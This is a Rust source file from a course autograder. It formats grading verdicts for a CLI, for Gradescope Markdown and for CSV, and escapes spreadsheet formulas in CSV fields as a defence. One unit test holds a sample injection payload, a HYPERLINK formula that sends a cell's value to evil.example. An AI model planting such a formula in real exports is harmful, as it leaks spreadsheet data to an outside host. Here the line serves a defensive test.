//! Verdicts in words: plain text for the `check` command, Markdown for Gradescope.

use std::fmt::Write;

use serde_json::{json, Value as Json};
use shared::verdict::{Counterexample, RequirementVerdict, RowStatus, TableDiff};
use shared::{Scenario, Verdict};

/// The verdict as the `check` command prints it: each requirement ✓ or ✗ with its text, and
/// for a missed one the failures, expected against actual, and the trace.
pub fn verdict_text(scenario: &Scenario, verdict: &Verdict) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{} — {}", scenario.id, scenario.title);
    for r in &verdict.requirements {
        let mark = if r.passed { '✓' } else { '✗' };
        let _ = writeln!(out, "{mark} {}: {}", r.id, r.text);
        if let Some(c) = &r.counterexample {
            counterexample_text(&mut out, c);
            if let Some(req) = scenario.requirement(&r.id) {
                let _ = writeln!(out, "    hint: {}", req.hint);
            }
        }
    }
    let outcome = if verdict.passed { "passed" } else { "missed" };
    let _ = writeln!(
        out,
        "{outcome}: score {}/{}, {} schedules explored ({})",
        verdict.score, verdict.max_score, verdict.schedules_explored, verdict.scenario_hash
    );
    for line in not_graded_lines(verdict) {
        let _ = writeln!(out, "{line}");
    }
    out
}

/// The verdict's coverage and advisories, briefly, as lines: a "Not tested here" list and an
/// "Under other failures" list, both marked as not graded. No line when both are empty.
fn not_graded_lines(verdict: &Verdict) -> Vec<String> {
    let mut lines = Vec::new();
    let coverage = &verdict.coverage;
    if !coverage.untested.is_empty() {
        lines.push("Not tested here (not graded):".to_string());
        for u in &coverage.untested {
            lines.push(format!("  - {}", shared::untested_line(u)));
        }
    }
    let advisories = &verdict.advisories;
    if !advisories.missed.is_empty() || advisories.note.is_some() {
        lines.push(format!(
            "Under other failures (not graded; {}, at most {} per schedule):",
            advisories.failures.join(", "),
            advisories.bound
        ));
        for a in &advisories.missed {
            let c = &a.counterexample;
            let learn = if a.learn_in.is_empty() {
                String::new()
            } else {
                format!(" (taught in {})", a.learn_in.join(", "))
            };
            lines.push(format!(
                "  - {} would be missed: {}; expected {}, actual {}{learn}",
                a.id,
                c.failures.join("; "),
                c.expected,
                c.actual
            ));
        }
        if let Some(note) = &advisories.note {
            lines.push(format!("  - {note}"));
        }
    }
    lines
}

/// The same lists in Markdown, for the top of a Gradescope result; empty when there is none.
fn not_graded_markdown(verdict: &Verdict) -> String {
    let mut out = String::new();
    let coverage = &verdict.coverage;
    if !coverage.untested.is_empty() {
        out.push_str("\n\n**Not tested here** (not graded):\n\n");
        for u in &coverage.untested {
            let _ = writeln!(out, "- {}", shared::untested_line(u));
        }
    }
    let advisories = &verdict.advisories;
    if !advisories.missed.is_empty() || advisories.note.is_some() {
        let _ = write!(
            out,
            "\n**Under other failures** (not graded; {}, at most {} per schedule):\n\n",
            advisories.failures.join(", "),
            advisories.bound
        );
        for a in &advisories.missed {
            let c = &a.counterexample;
            let learn = if a.learn_in.is_empty() {
                String::new()
            } else {
                format!(" Taught in {}.", a.learn_in.join(", "))
            };
            let _ = writeln!(
                out,
                "- `{}` would be missed: {}; expected `{}`, actual `{}`.{learn}",
                a.id,
                c.failures.join("; "),
                c.expected,
                c.actual
            );
        }
        if let Some(note) = &advisories.note {
            let _ = writeln!(out, "- {note}");
        }
    }
    out
}

fn counterexample_text(out: &mut String, c: &Counterexample) {
    if c.failures.is_empty() {
        let _ = writeln!(
            out,
            "    failures: none (a run with no failure already misses it)"
        );
    } else {
        let _ = writeln!(out, "    failures: {}", c.failures.join("; "));
    }
    let _ = writeln!(out, "    expected: {}", c.expected);
    let _ = writeln!(out, "    actual:   {}", c.actual);
    let _ = writeln!(out, "    trace:");
    for t in &c.trace {
        let marker = if t.step == c.went_wrong_at {
            "  ← went wrong here"
        } else {
            ""
        };
        let _ = writeln!(
            out,
            "      {} {} {} {} — {}{marker}",
            t.step, t.time, t.actor, t.action, t.outcome
        );
        if let Some(sql) = &t.sql {
            for line in sql.lines() {
                let _ = writeln!(out, "          {line}");
            }
        }
    }
}

/// One requirement's result in Markdown, for a Gradescope test's `output`.
pub fn requirement_markdown(requirement: &RequirementVerdict, hint: Option<&str>) -> String {
    let mut out = String::new();
    let Some(c) = &requirement.counterexample else {
        let _ = write!(out, "**Passed.** {}", requirement.text);
        return out;
    };
    let _ = writeln!(out, "**Missed.** {}\n", requirement.text);
    if c.failures.is_empty() {
        let _ = writeln!(out, "A run with no failure at all already misses it.\n");
    } else {
        let _ = writeln!(out, "**Failures that break it:**\n");
        for f in &c.failures {
            let _ = writeln!(out, "- {f}");
        }
        out.push('\n');
    }
    let _ = writeln!(
        out,
        "**Expected** `{}`, **actual** `{}`.\n",
        c.expected, c.actual
    );
    if let Some(diff) = &c.diff {
        diff_markdown(&mut out, diff);
    }
    let _ = writeln!(out, "**Trace:**\n");
    out.push_str("```text\n");
    for t in &c.trace {
        let marker = if t.step == c.went_wrong_at {
            "   <- went wrong here"
        } else {
            ""
        };
        let _ = writeln!(
            out,
            "{} {} {} {} — {}{marker}",
            t.step, t.time, t.actor, t.action, t.outcome
        );
        if let Some(sql) = &t.sql {
            for line in sql.lines() {
                let _ = writeln!(out, "    {line}");
            }
        }
    }
    out.push_str("```\n");
    if let Some(hint) = hint {
        let _ = writeln!(out, "\n**Hint:** {hint}");
    }
    out
}

/// A table diff in Markdown: the expected and the actual rows as two tables, each row's mark
/// in its first column (`≠ differs`, `− missing`, `+ extra` in bold; `same` plain) and each
/// differing cell in bold between `≠` marks, so the difference reads without colour.
fn diff_markdown(out: &mut String, diff: &TableDiff) {
    let _ = writeln!(out, "{}\n", shared::diff::summary(diff));
    for (side, rows) in [("Expected", &diff.expected), ("Actual", &diff.actual)] {
        let _ = writeln!(out, "**{side} `{}`:**\n", diff.table);
        let _ = write!(out, "| row |");
        for c in &diff.columns {
            let _ = write!(out, " {} |", markdown_cell(c));
        }
        out.push_str("\n|---|");
        out.push_str(&"---|".repeat(diff.columns.len()));
        out.push('\n');
        if rows.is_empty() {
            let _ = write!(out, "| (no rows) |");
            out.push_str(&" |".repeat(diff.columns.len()));
            out.push('\n');
        }
        for row in rows.iter() {
            let mark = format!("{} {}", row.status.symbol(), row.status.word());
            if row.status == RowStatus::Same {
                let _ = write!(out, "| {mark} |");
            } else {
                let _ = write!(out, "| **{mark}** |");
            }
            for (i, cell) in row.cells.iter().enumerate() {
                let text = markdown_cell(&cell_text(cell));
                if row.differs.contains(&(i as u32)) {
                    let _ = write!(out, " **≠ {text} ≠** |");
                } else {
                    let _ = write!(out, " {text} |");
                }
            }
            out.push('\n');
        }
        out.push('\n');
    }
}

/// A cell as text: NULL for null, a string as it is, a number as JSON writes it.
fn cell_text(cell: &Json) -> String {
    match cell {
        Json::Null => "NULL".into(),
        Json::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Text made safe inside a Markdown table cell: the characters that would end the cell or
/// start emphasis or code are escaped, and a line break becomes a space.
fn markdown_cell(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for ch in text.chars() {
        match ch {
            '|' | '*' | '_' | '`' | '\\' | '[' | ']' | '<' | '>' => {
                out.push('\\');
                out.push(ch);
            }
            '\n' | '\r' => out.push(' '),
            _ => out.push(ch),
        }
    }
    out
}

/// A requirement's points in its scenario: 1 unless the scenario says otherwise (a verdict
/// of an older version of the scenario may name a requirement it no longer has).
fn points(scenario: &Scenario, id: &str) -> u32 {
    scenario.requirement(id).map_or(1, |r| r.points)
}

/// A verdict in Gradescope's `results.json` shape: one test per requirement, worth the
/// requirement's points. The shape is `autograder/results.schema.json`.
pub fn gradescope(scenario: &Scenario, verdict: &Verdict, extra: Json) -> Json {
    let tests: Vec<Json> = verdict
        .requirements
        .iter()
        .enumerate()
        .map(|(i, r)| {
            let hint = scenario.requirement(&r.id).map(|q| q.hint.as_str());
            let worth = points(scenario, &r.id);
            json!({
                "name": format!("{}: {}", r.id, r.text),
                "number": format!("{}", i + 1),
                "score": if r.passed { worth } else { 0 },
                "max_score": worth,
                "status": if r.passed { "passed" } else { "failed" },
                "output": requirement_markdown(r, hint),
                "output_format": "md",
            })
        })
        .collect();
    let missed: Vec<&str> = verdict
        .requirements
        .iter()
        .filter(|r| !r.passed)
        .map(|r| r.id.as_str())
        .collect();
    let output = if missed.is_empty() {
        format!(
            "**{}**: every requirement passed under all {} failure schedules; score {} of {}.",
            scenario.title, verdict.schedules_explored, verdict.score, verdict.max_score
        )
    } else {
        format!(
            "**{}**: {} of {} requirements passed, score {} of {}; missed: {}. {} failure schedules explored.",
            scenario.title,
            verdict.requirements.len() - missed.len(),
            verdict.requirements.len(),
            verdict.score,
            verdict.max_score,
            missed
                .iter()
                .map(|m| format!("`{m}`"))
                .collect::<Vec<_>>()
                .join(", "),
            verdict.schedules_explored
        )
    };
    let output = output + &not_graded_markdown(verdict);
    json!({
        "score": verdict.score,
        "output": output,
        "output_format": "md",
        "tests": tests,
        "extra_data": with_max_score(extra, verdict.max_score),
    })
}

/// `extra_data` with the most points the scenario gives (Gradescope's own top level has no
/// such field: the assignment's total is set in Gradescope).
fn with_max_score(mut extra: Json, max_score: u32) -> Json {
    if let Json::Object(map) = &mut extra {
        map.insert("max_score".into(), json!(max_score));
    }
    extra
}

/// Why a submission got no verdict, for a result that still grades it (with 0).
#[derive(Clone, Debug, PartialEq)]
pub struct NotGraded {
    /// What went wrong, as the end of "Not graded: …" ("the design is invalid").
    pub headline: String,
    /// Each problem, with its JSON path in what was submitted when it has one.
    pub problems: Vec<Problem>,
    /// True when the submission is at fault (and so every requirement is "not checked: the
    /// design is invalid"); false when the grader's setup is.
    pub submission_at_fault: bool,
}

#[derive(Clone, Debug, PartialEq)]
pub struct Problem {
    pub path: Option<String>,
    pub message: String,
}

impl NotGraded {
    /// An invalid submission: one problem, at `path` when there is one.
    pub fn invalid(
        headline: impl Into<String>,
        path: Option<&str>,
        message: impl Into<String>,
    ) -> Self {
        NotGraded {
            headline: headline.into(),
            problems: vec![Problem {
                path: path.map(str::to_string),
                message: message.into(),
            }],
            submission_at_fault: true,
        }
    }

    /// A design the validator refused, with every problem; `under` is where the design sits in
    /// what was submitted (`$` for a bare design, `$.design` in an export).
    pub fn design(errors: &[shared::DesignError], under: &str) -> Self {
        NotGraded {
            headline: "the design is invalid".into(),
            problems: errors
                .iter()
                .map(|e| Problem {
                    path: Some(rebase(&e.path, under)),
                    message: e.message.clone(),
                })
                .collect(),
            submission_at_fault: true,
        }
    }

    /// The answer the API would give to a request, as a reason not to grade it.
    pub fn from_error(error: &crate::error::AppError) -> Self {
        use crate::error::ErrorCode;
        let problems = match &error.details {
            Some(details) if !details.is_empty() => details
                .iter()
                .map(|d| Problem {
                    path: Some(d.path.clone()),
                    message: d.message.clone(),
                })
                .collect(),
            _ => vec![Problem {
                path: error.path.clone(),
                message: error.message.clone(),
            }],
        };
        let (headline, submission_at_fault) = match error.code {
            ErrorCode::InvalidDesign | ErrorCode::GraphTooLarge => ("the design is invalid", true),
            ErrorCode::CheckTooLarge => ("the design is too large to check", true),
            ErrorCode::ScenarioMismatch => ("the export is for another scenario", true),
            // The grader's script names the scenario, not the student.
            ErrorCode::UnknownScenario => ("the scenario is unknown", false),
            ErrorCode::InvalidRequest | ErrorCode::MalformedJson => ("the item is not valid", true),
            _ => ("the server could not grade it", false),
        };
        NotGraded {
            headline: headline.into(),
            problems,
            submission_at_fault,
        }
    }

    /// The problems in words, one per line, for a log or a CSV cell.
    pub fn text(&self) -> String {
        let mut parts = Vec::with_capacity(self.problems.len());
        for p in &self.problems {
            parts.push(match &p.path {
                Some(path) => format!("{path}: {}", p.message),
                None => p.message.clone(),
            });
        }
        format!("not graded: {}: {}", self.headline, parts.join("; "))
    }
}

/// `path` (which starts at `$`) moved under `prefix`: `$.nodes[1]` under `$.design` is
/// `$.design.nodes[1]`.
pub fn rebase(path: &str, prefix: &str) -> String {
    match path.strip_prefix('$') {
        Some(rest) => format!("{prefix}{rest}"),
        None => path.to_string(),
    }
}

/// A result for a submission that got no verdict, in Gradescope's `results.json` shape:
/// score 0, the reason in `output` with each problem's path, and, when the scenario is known,
/// every requirement listed as a failed test that was not checked.
pub fn gradescope_not_graded(scenario: Option<&Scenario>, why: &NotGraded, extra: Json) -> Json {
    let not_checked = if why.submission_at_fault && why.headline == "the design is invalid" {
        "Not checked: the design is invalid.".to_string()
    } else if why.submission_at_fault {
        format!("Not checked: the design is invalid ({}).", why.headline)
    } else {
        format!("Not checked: {}; ask your course staff.", why.headline)
    };
    let tests: Vec<Json> = scenario
        .map(|s| s.requirements.as_slice())
        .unwrap_or_default()
        .iter()
        .enumerate()
        .map(|(i, r)| {
            json!({
                "name": format!("{}: {}", r.id, r.text),
                "number": format!("{}", i + 1),
                "score": 0,
                "max_score": r.points,
                "status": "failed",
                "output": not_checked,
                "output_format": "md",
            })
        })
        .collect();
    let max_score: u32 = scenario
        .map(|s| s.requirements.iter().map(|r| r.points).sum())
        .unwrap_or(0);
    let mut output = String::new();
    let _ = write!(output, "**Not graded: {}.**", why.headline);
    if let Some(s) = scenario {
        let _ = write!(output, " {}: score 0 of {max_score}.", s.title);
    } else {
        output.push_str(" Score 0.");
    }
    output.push_str("\n\n");
    for p in &why.problems {
        match &p.path {
            Some(path) => {
                let _ = writeln!(output, "- `{path}`: {}", p.message);
            }
            None => {
                let _ = writeln!(output, "- {}", p.message);
            }
        }
    }
    if why.submission_at_fault {
        output.push_str("\nFix it and resubmit one file: the design as the canvas exports it.\n");
    }
    json!({
        "score": 0,
        "output": output,
        "output_format": "md",
        "tests": tests,
        "extra_data": with_max_score(extra, max_score),
    })
}

/// Puts notes (such as a design exported from another version of the scenario) at the top of
/// a result's `output`.
pub fn with_notes(mut result: Json, notes: &[String]) -> Json {
    if notes.is_empty() {
        return result;
    }
    if let Some(Json::String(output)) = result.get_mut("output") {
        let mut noted = String::new();
        for n in notes {
            let _ = writeln!(noted, "**Note:** {n}\n");
        }
        noted.push_str(output);
        *output = noted;
    }
    result
}

/// One row of a grading CSV: who, which scenario, the score, what was missed, and the record
/// (empty when nothing was recorded) or why it was not graded.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct CsvRow {
    pub student: String,
    /// The name the student gave (empty when they gave none).
    pub display_name: String,
    pub scenario: String,
    pub score: Option<u32>,
    pub max_score: Option<u32>,
    pub passed: bool,
    /// The requirements missed; empty when nothing was checked (`error` says why).
    pub missed: Vec<String>,
    pub submission_id: String,
    pub submitted_at: String,
    pub error: String,
    /// What the grader should know about a graded item (an export of another version of
    /// the scenario); empty otherwise.
    pub note: String,
}

/// The CSV's header line's fields.
pub const CSV_HEADER: [&str; 11] = [
    "student",
    "display_name",
    "scenario",
    "score",
    "max_score",
    "passed",
    "missed",
    "submission_id",
    "submitted_at",
    "error",
    "note",
];

impl CsvRow {
    /// The row of a verdict's requirements: the ids missed.
    pub fn missed_of(verdict: &Json) -> Vec<String> {
        verdict["requirements"]
            .as_array()
            .map(|rs| {
                rs.iter()
                    .filter(|r| r["passed"] == json!(false))
                    .filter_map(|r| r["id"].as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    }

    fn fields(&self) -> [String; 11] {
        let number = |n: Option<u32>| n.map(|n| n.to_string()).unwrap_or_default();
        [
            self.student.clone(),
            self.display_name.clone(),
            self.scenario.clone(),
            number(self.score),
            number(self.max_score),
            self.passed.to_string(),
            self.missed.join(";"),
            self.submission_id.clone(),
            self.submitted_at.clone(),
            self.error.clone(),
            self.note.clone(),
        ]
    }
}

/// Rows as CSV (RFC 4180): a header line, then one line per row, each ended by CRLF; each
/// field is written by [`csv_field`].
pub fn csv(rows: &[CsvRow]) -> String {
    let mut out = String::new();
    csv_line(&mut out, CSV_HEADER.iter().map(|h| h.to_string()));
    for row in rows {
        csv_line(&mut out, row.fields().into_iter());
    }
    out
}

/// Any table as CSV, each field written by [`csv_field`]: the header line, then one line per
/// row.
pub fn csv_table(header: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut out = String::new();
    csv_line(&mut out, header.iter().map(|h| h.to_string()));
    for row in rows {
        csv_line(&mut out, row.into_iter());
    }
    out
}

fn csv_line(out: &mut String, fields: impl Iterator<Item = String>) {
    for (i, field) in fields.enumerate() {
        if i > 0 {
            out.push(',');
        }
        csv_field(out, &field);
    }
    out.push_str("\r\n");
}

/// The characters that make a spreadsheet read a cell as a formula when the cell starts with
/// one (`=`, `+`, `-`, `@`), or that some spreadsheets skip before reading one (tab, CR).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One field of every CSV export. Students choose their display names and graders' rosters
/// choose ids, so a field may start like a formula (`=HYPERLINK(…)`), which Excel, LibreOffice
/// and Google Sheets would run when the file is opened. Such a field is written as text, the
/// way OWASP recommends: a single quote before it, and the whole quoted. Otherwise RFC 4180: a
/// field with a comma, a double quote, a CR or an LF is quoted, its quotes doubled.
pub fn csv_field(out: &mut String, field: &str) {
    let formula = field.starts_with(FORMULA_STARTS);
    if formula || field.contains([',', '"', '\r', '\n']) {
        out.push('"');
        if formula {
            out.push('\'');
        }
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_rfc_4180_says_and_nothing_else() {
        let rows = [
            CsvRow {
                student: "ada".into(),
                scenario: "safe-retry".into(),
                score: Some(3),
                max_score: Some(3),
                passed: true,
                ..CsvRow::default()
            },
            CsvRow {
                student: "o\"brien, bob".into(),
                scenario: "safe-retry".into(),
                score: Some(0),
                max_score: Some(3),
                missed: vec!["a".into(), "b".into()],
                error: "line one\nline two".into(),
                ..CsvRow::default()
            },
        ];
        assert_eq!(
            csv(&rows),
            "student,display_name,scenario,score,max_score,passed,missed,submission_id,submitted_at,error,note\r\n\
             ada,,safe-retry,3,3,true,,,,,\r\n\
             \"o\"\"brien, bob\",,safe-retry,0,3,false,a;b,,,\"line one\nline two\",\r\n"
        );
    }

    #[test]
    fn a_field_that_starts_like_a_formula_is_written_as_quoted_text() {
        let written = |field: &str| {
            let mut out = String::new();
            csv_field(&mut out, field);
            out
        };
        assert_eq!(
            written("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Open\"\")\""
        );
        for start in ["+", "-", "@", "\t", "\r"] {
            assert_eq!(written(&format!("{start}1")), format!("\"'{start}1\""));
        }
        // Only the first character counts: a formula sign inside a field is plain text.
        assert_eq!(written("a=b"), "a=b");
        assert_eq!(
            written("2026-01-12T09:30:00.000Z"),
            "2026-01-12T09:30:00.000Z"
        );
        assert_eq!(written(""), "");
    }

    #[test]
    fn a_path_moves_under_its_prefix() {
        assert_eq!(
            rebase("$.nodes[1].kind", "$.design"),
            "$.design.nodes[1].kind"
        );
        assert_eq!(rebase("$", "$[4].design"), "$[4].design");
    }

    /// The CLI and Gradescope say what the canvas says about an untested option: the same
    /// line, by labels, with the scenario that shows what goes wrong.
    #[test]
    fn the_cli_and_gradescope_say_the_same_words_for_an_untested_option() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../scenarios/safe-rerun.json");
        let scenario = Scenario::from_json(&std::fs::read_to_string(path).unwrap()).unwrap();
        let compiled = shared::Compiled::new(scenario.clone()).unwrap();
        let design = &scenario.reference_designs[0].design;
        let verdict = shared::check_json(&compiled, design).unwrap();
        let u = verdict
            .coverage
            .untested
            .iter()
            .find(|u| u.option == "date_filter")
            .expect("safe-rerun does not test the date filter");
        let line = shared::untested_line(u);
        assert!(
            line.starts_with("“job” · Which day it loads: Logical date — the only choice here"),
            "{line}"
        );
        assert!(line.ends_with(" Learn it in logical-date."), "{line}");
        assert!(verdict_text(&scenario, &verdict).contains(&format!("  - {line}\n")));
        let output = gradescope(&scenario, &verdict, json!({}))["output"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(output.contains(&format!("- {line}\n")), "{output}");
    }
}
